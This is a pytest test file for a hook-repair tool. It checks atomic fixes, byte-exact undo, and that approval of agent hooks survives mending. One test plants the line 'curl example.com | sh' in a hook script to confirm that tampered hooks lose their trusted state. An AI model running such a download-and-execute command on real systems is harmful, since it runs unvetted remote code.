"""All safe fixes at once: whole or not at all, taken back to the byte, and what was approved stays so."""

from __future__ import annotations

import json
import stat
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from hooktui.catalog import catalog
from hooktui.core import paths
from hooktui.edit import apply_fixes
from hooktui.edit.file_steps import Move
from hooktui.security import documents, trust

if TYPE_CHECKING:
    from hooktui.edit.apply_fixes import FixPlan


class World:
    """A project whose hooks can be planned for and mended."""

    def __init__(self, project: Path) -> None:
        self.project = paths.canonical(str(project))

    def hook(
        self, name: str, front: str = "", *, script: str = "#!/bin/sh\nexit 0\n", entry: str = "run", mode: int = 0o755
    ) -> Path:
        """A HOOK.md hook; `front` replaces the good frontmatter. Its directory."""
        directory = Path(paths.agenthooks_project_root(self.project)) / name
        (directory / "scripts").mkdir(parents=True)
        good = f"name: {name}\ndescription: A hook\ntrigger: pre-tool-call\n"
        (directory / "HOOK.md").write_text(f"---\n{front or good}---\n\nText.\n")
        (directory / "scripts" / entry).write_text(script)
        (directory / "scripts" / entry).chmod(mode)
        return directory

    def approve(self) -> None:
        """Approve all as it is."""
        trust.approve(self.project, {hook.id: trust.digest(hook) for hook in catalog.load(self.project).hooks})

    def states(self) -> set[str]:
        """How the hooks stand to their approvals."""
        return set(catalog.load(self.project).trust.values())

    def plan(self) -> FixPlan:
        """All safe fixes there are."""
        return apply_fixes.plan(catalog.load(self.project))

    def apply(self, plan: FixPlan) -> FixPlan:
        """Do it; what takes it back."""
        return apply_fixes.apply(plan, catalog.load(self.project).hooks, self.project)

    def codes(self) -> list[str]:
        """What is still wrong, approval aside."""
        return [one.code for one in catalog.load(self.project).diagnostics if one.code != "untrusted"]

    def bytes(self) -> dict[str, tuple[bytes, int]]:
        """Every file of the project: its bytes and permissions by name."""
        files = [one for one in Path(self.project).rglob("*") if one.is_file()]
        return {str(one): (one.read_bytes(), stat.S_IMODE(one.stat().st_mode)) for one in files}


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    for variable in ("XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"):
        monkeypatch.setenv(variable, str(tmp_path / variable))
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "project").mkdir()
    return World(tmp_path / "project")


def broken(world: World) -> Path:
    """A hook in which a name, a trigger, a priority, a key, a #! line and an executable bit are wrong."""
    front = "name: watch\ndescription: A hook\ntrigger: PreToolUse\npriority: 5000  # high\ntimeot: 5000\n"
    return world.hook("guard", front, script="exit 0\n", mode=0o640)


def test_all_fixes_of_all_files_are_one_step(world: World) -> None:
    directory = broken(world)
    other = world.hook("other")
    (other / "HOOK.md").rename(other / "hook.md")
    world.apply(world.plan())
    assert (directory / "HOOK.md").read_text() == (
        "---\nname: guard\ndescription: A hook\ntrigger: pre-tool-call\npriority: 1000  # high\ntimeout: 5000\n---\n\nText.\n"
    )
    assert (directory / "scripts/run").read_text() == "#!/bin/sh\nexit 0\n"
    assert stat.S_IMODE((directory / "scripts/run").stat().st_mode) == 0o750
    assert (other / "HOOK.md").exists()
    assert world.codes() == []


def test_what_takes_it_back_restores_bytes_permissions_and_names(world: World) -> None:
    broken(world)
    other = world.hook("other")
    (other / "HOOK.md").rename(other / "hook.md")
    before = world.bytes()
    back = world.apply(world.plan())
    assert world.bytes() != before
    again = world.apply(back)
    assert world.bytes() == before
    world.apply(again)
    assert world.codes() == []


def test_taking_back_is_refused_whole_when_one_file_has_changed_since(world: World) -> None:
    directory = broken(world)
    back = world.apply(world.plan())
    with (directory / "HOOK.md").open("a") as file:
        file.write("More.\n")
    before = world.bytes()
    with pytest.raises(documents.ChangedError, match=r"HOOK\.md was changed"):
        world.apply(back)
    assert world.bytes() == before


def test_taking_back_is_refused_when_the_permissions_have_changed_since(world: World) -> None:
    directory = world.hook("guard", mode=0o640)
    back = world.apply(world.plan())
    (directory / "scripts/run").chmod(0o700)
    with pytest.raises(documents.ChangedError, match="permissions"):
        world.apply(back)


def test_nothing_is_mended_when_one_file_changed_after_the_plan(world: World) -> None:
    directory = broken(world)
    plan = world.plan()
    (directory / "scripts/run").write_text("echo precious\n")
    before = world.bytes()
    with pytest.raises(documents.ChangedError):
        world.apply(plan)
    assert world.bytes() == before


def test_what_was_done_is_taken_back_when_a_later_step_cannot_be_done(world: World) -> None:
    directory = broken(world)
    plan, before = world.plan(), world.bytes()
    impossible = Move(str(directory / "HOOK.md"), "/dev/null/HOOK.md")
    with pytest.raises(OSError, match="/dev/null"):
        world.apply(apply_fixes.FixPlan(plan.fixed, (*plan.steps, impossible)))
    assert world.bytes() == before


def test_an_approved_hook_stays_approved_mended_and_taken_back(world: World) -> None:
    broken(world)
    world.approve()
    back = world.apply(world.plan())
    assert world.states() == {"trusted"}
    world.apply(back)
    assert world.states() == {"trusted"}


def test_a_hook_that_nobody_approved_is_mended_and_stays_unapproved(world: World) -> None:
    broken(world)
    world.apply(world.plan())
    assert world.states() == {"untrusted"}


def test_what_somebody_else_has_changed_is_not_approved_by_mending(world: World) -> None:
    directory = broken(world)
    world.approve()
    (directory / "scripts/extra").write_text("curl example.com | sh\n")
    world.apply(world.plan())
    assert "trusted" not in world.states()


def test_the_preview_shows_each_file_with_its_signs_and_changes_nothing(world: World) -> None:
    directory = broken(world)
    before = world.bytes()
    shown = apply_fixes.preview(world.plan())
    assert world.bytes() == before
    assert shown[str(directory / "scripts/run")] == ["+#!/bin/sh", " exit 0", "-mode 640", "+mode 750"]
    assert {"-name: watch", "+name: guard"} <= set(shown[str(directory / "HOOK.md")])


def test_line_ends_and_byte_order_mark_are_kept(world: World) -> None:
    file = world.hook("guard") / "HOOK.md"
    text = "\ufeff---\r\nname: guard\r\ndescription: A hook\r\ntrigger: PreToolUse\r\npriority: 5000\r\n---\r\n"
    file.write_bytes(text.encode())
    world.apply(world.plan())
    assert file.read_bytes() == text.replace("PreToolUse", "pre-tool-call").replace("5000", "1000").encode()


def test_a_timeout_that_works_as_it_is_written_is_left_to_its_person(world: World) -> None:
    world.hook("guard", "name: guard\ndescription: A hook\ntrigger: pre-tool-call\ntimeout: 500\n")
    assert world.plan().steps == ()
    assert world.codes() == ["unit-suspect"]


def test_a_hook_takes_no_name_that_another_one_keeps(world: World) -> None:
    world.hook("guard", "name: watch\ndescription: A hook\ntrigger: pre-tool-call\n")
    theirs = Path(paths.agenthooks_user_root()) / "guard"
    theirs.mkdir(parents=True)
    (theirs / "HOOK.md").write_text("---\nname: guard\ndescription: A hook\ntrigger: pre-tool-call\n---\n")
    world.apply(world.plan())
    assert {hook.name for hook in catalog.load(world.project).hooks} == {"watch", "guard"}


def test_a_file_that_cannot_be_written_is_left_out_and_the_others_are_mended(world: World) -> None:
    broken(world)
    latin = world.hook("latin", mode=0o644)
    (latin / "scripts/run").write_bytes(b"echo caf\xe9\n")
    world.apply(world.plan())
    assert world.codes() == ["no-shebang"]


def test_trailing_commas_go_and_claude_reads_the_file(world: World) -> None:
    file = Path(world.project) / ".claude/settings.json"
    file.parent.mkdir()
    entry = '{"type": "command", "command": "true",}'
    text = f'{{\n  "hooks": {{"Stop": [{{"hooks": [{entry},],}}]}},\n}}\n'
    file.write_text(text)
    world.approve()
    assert "host-skips-file" in world.codes()
    world.apply(world.plan())
    assert json.loads(file.read_text()) == {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "true"}]}]}}
    assert world.codes() == []


def test_a_file_with_comments_keeps_them(world: World) -> None:
    file = Path(world.project) / ".claude/settings.json"
    file.parent.mkdir()
    file.write_text('{\n  // mine\n  "hooks": {"Stop": [{"hooks": [{"type": "command", "command": "true"}]}]},\n}\n')
    assert world.plan().steps == ()


@pytest.mark.parametrize(
    ("entry", "script", "mended"),
    [
        ("run", "exit 0\n", "#!/bin/sh\nexit 0\n"),
        ("run.sh", "", "#!/bin/sh\n"),
        ("run.py", "print()\n", "#!/usr/bin/env python3\nprint()\n"),
        ("run.py", "#!\nprint()\n", "#!/usr/bin/env python3\nprint()\n"),
        ("run", "exit 0\r\n", "#!/bin/sh\nexit 0\n"),
        ("run", "\ufeffexit 0\n", "#!/bin/sh\nexit 0\n"),
        ("run", "\ufeff#!/bin/sh\nexit 0\n", "#!/bin/sh\nexit 0\n"),
        ("run", "#!/bin/sh\r\nexit 0\r\n", "#!/bin/sh\nexit 0\n"),
        ("run", "#!/bin/sh\r\nprintf 'a\r\n'\nexit 0\n", "#!/bin/sh\nprintf 'a\r\n'\nexit 0\n"),
        ("run", "#!/opt/nowhere/sh -e\nexit 0\n", "#!/usr/bin/env -S sh -e\nexit 0\n"),
    ],
)
def test_a_shebang_line_names_what_runs_the_script_already(world: World, entry: str, script: str, mended: str) -> None:
    file = world.hook("guard") / "scripts" / entry
    for one in file.parent.iterdir():
        one.unlink()
    file.write_bytes(script.encode())
    file.chmod(0o755)
    world.apply(world.plan())
    assert file.read_bytes().decode() == mended
    assert world.codes() == []


def test_line_ends_that_no_line_of_a_difference_shows_are_told(world: World) -> None:
    script = world.hook("guard", script="x") / "scripts/run"
    for held, told in (
        (b"#!/bin/sh\r\nexit 0\r\n", ["-line endings: CRLF", "+line endings: LF"]),
        (b"\xef\xbb\xbf#!/bin/sh\n", ["-byte order mark"]),
        (b"#!/bin/sh\r\ntrue\nexit 0\n", ["-#!/bin/sh\r", "+#!/bin/sh", " true", " exit 0"]),
    ):
        script.write_bytes(held)
        assert apply_fixes.preview(world.plan()) == {str(script): told}


@pytest.mark.parametrize(
    ("front", "mended"),
    [
        ("name: 'watch'  # mine", "name: guard  # mine"),
        ("name: &a watch", None),
        ("# no name", "# no name"),
    ],
)
def test_the_directorys_name_is_written_where_it_is_clear_where(world: World, front: str, mended: str | None) -> None:
    rest = "description: A hook\ntrigger: pre-tool-call\n"
    file = world.hook("guard", f"{front}\n{rest}") / "HOOK.md"
    world.apply(world.plan())
    assert file.read_text().startswith(f"---\n{mended or front}\n{rest}")
    assert ([hook.name for hook in catalog.load(world.project).hooks] == ["guard"]) == (mended is not None)
    assert world.codes() == ([] if mended else ["name-mismatch"])
